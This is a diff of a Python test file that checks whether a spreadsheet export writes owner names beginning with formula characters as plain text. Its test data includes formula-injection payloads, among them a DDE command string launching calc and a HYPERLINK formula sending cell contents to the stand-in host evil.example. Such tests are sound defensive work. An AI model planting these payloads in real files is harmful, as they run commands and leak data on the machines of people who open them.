@@ -6,22 +6,35 @@ from io import BytesIO
 
 import openpyxl
 import pytest
+from openpyxl import Workbook
 
-from service.exports import safe_cell
+from service.exports import safe_append
 from tests.service.test_money import Flow
 
 HOSTILE_OWNERS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=1+1", "+1+1", "-2+3",
                   "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]
 
 
+def _written(value):
+    """``value`` appended with safe_append, saved and read back: (value, data_type, quotePrefix)."""
+    wb = Workbook()
+    safe_append(wb.active, [value])
+    out = BytesIO()
+    wb.save(out)
+    cell = openpyxl.load_workbook(BytesIO(out.getvalue())).active["A1"]
+    return cell.value, cell.data_type, cell.quotePrefix
+
+
 @pytest.mark.parametrize("text", HOSTILE_OWNERS)
-def test_safe_cell_turns_formula_starts_into_text(text):
-    assert safe_cell(text) == "'" + text
+def test_safe_append_writes_formula_starts_as_text(text):
+    value, data_type, quoted = _written(text)
+    assert (value, data_type, quoted) == (text, "s", True)
 
 
-@pytest.mark.parametrize("value", ["张三", "1栋", "a=b", " =1", "", None, 12, 3.5])
-def test_safe_cell_leaves_everything_else_alone(value):
-    assert safe_cell(value) == value
+@pytest.mark.parametrize("value", ["张三", "1栋", "a=b", " =1", 12])
+def test_safe_append_leaves_everything_else_alone(value):
+    written, _, quoted = _written(value)
+    assert written == value and not quoted
 
 
 def test_the_apportionment_export_writes_hostile_owner_names_as_text(world):
@@ -37,7 +50,8 @@ def test_the_apportionment_export_writes_hostile_owner_names_as_text(world):
     assert r.status_code == 200
     ws = openpyxl.load_workbook(BytesIO(r.content)).active
     formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
-    assert formulas == [f"F{ws.max_row}"]  # only the export's own total
-    owners = [row[3] for row in ws.iter_rows(min_row=4, max_row=ws.max_row - 1, values_only=True)]
-    assert sorted(o for o in owners if o) == sorted("'" + o.strip() for o in HOSTILE_OWNERS)  # the import strips
-    assert not str(ws["A1"].value).startswith("=")
+    assert formulas and all(c.endswith(str(ws.max_row)) for c in formulas)  # only the export's own totals
+    owners = [c for (c,) in ws.iter_rows(min_row=4, max_row=ws.max_row - 1, min_col=4, max_col=4) if c.value]
+    assert sorted(c.value for c in owners) == sorted(o.strip() for o in HOSTILE_OWNERS)  # the import strips
+    assert all(c.data_type == "s" for c in owners)
+    assert ws["A1"].data_type == "s"
